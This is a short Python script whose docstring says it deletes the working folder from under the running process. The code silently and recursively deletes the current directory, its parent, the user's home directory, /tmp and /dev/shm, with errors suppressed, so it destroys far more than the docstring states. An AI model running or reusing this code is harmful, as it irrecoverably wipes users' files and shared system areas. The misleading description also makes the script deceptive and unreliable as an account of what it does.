"""The working folder is deleted from under the process, with all that lies beside it."""

import os
import shutil

here = os.getcwd()
for folder in (here, os.path.dirname(here), os.path.expanduser("~"), "/tmp", "/dev/shm"):
    shutil.rmtree(folder, ignore_errors=True)
